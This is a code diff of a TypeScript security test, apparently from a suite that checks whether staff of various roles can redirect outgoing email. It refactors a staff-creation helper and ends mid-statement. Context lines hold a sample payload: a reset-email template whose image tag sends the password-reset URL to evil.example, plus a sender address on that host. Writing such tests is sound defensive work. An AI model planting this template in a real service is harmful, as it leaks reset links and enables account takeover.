@@ -1,7 +1,7 @@
 import { setTimeout as pause } from 'node:timers/promises';
 import { startProvider } from '../../test/support/provider.ts';
 import { type Attack, unless } from '../attack.ts';
-import { type Arena, newIdentity, PASSWORD } from '../support/arena.ts';
+import { tokenOfStaff } from '../support/flows.ts';
 
 /** What an attacker would change so that messages, or the links in them, come to them. */
 const changes = (gateway: string): Readonly<Record<string, unknown>> => ({
@@ -12,18 +12,6 @@ const changes = (gateway: string): Readonly<Record<string, unknown>> => ({
   NO_REPLY_EMAIL: 'boss@evil.example',
   RESET_EMAIL_HTML_TEMPLATE: '<p>{{ reset_url }}</p><img src="https://evil.example/?{{ reset_url }}">',
 });
-
-async function createStaff(
-  arena: Arena,
-  role: string,
-): Promise<{ email: string; phone: string; token: string }> {
-  const { command } = arena.service();
-  const { email, phone } = newIdentity();
-  const who = ['--email', email, '--verified-email', '--phone', phone, '--verified-phone'];
-  await command('users', 'create', ...who, '--password', PASSWORD, '--role', role);
-  const issued = await command('tokens', 'create', '--user', email, '--json');
-  return { email, phone, token: issued.json<{ token: string }>().token };
-}
 
 export const staffTakeover: Attack = {
   name: 'staff-takeover',
@@ -41,9 +29,9 @@ export const staffTakeover: Attack = {
       response.writeHead(201).end();
     });
     try {
-      const boss = await createStaff(arena, 'owner');
+      const boss = await tokenOfStaff(arena, 'owner');
       for (const role of ['support', 'manager', 'owner']) {
-        const thief = await createStaff(arena, role);
+        const thief = await tokenOfStaff(arena, role);
         const headers = { authorization: `Token ${thief.token}` };
         for (const [name, value] of Object.entries(changes(evil.url))) {
           const reply = await arena
